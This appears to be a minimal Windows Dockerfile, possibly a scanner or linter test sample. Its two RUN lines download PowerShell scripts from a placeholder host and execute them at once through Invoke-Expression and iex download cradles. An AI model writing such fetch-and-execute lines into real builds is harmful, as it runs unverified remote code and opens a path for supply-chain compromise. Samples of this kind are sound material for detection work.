FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command"]
RUN $s = Invoke-WebRequest -UseBasicParsing https://code.example.invalid/a.ps1; Invoke-Expression $s.Content
RUN iex (New-Object Net.WebClient).DownloadString('https://code.example.invalid/b.ps1')
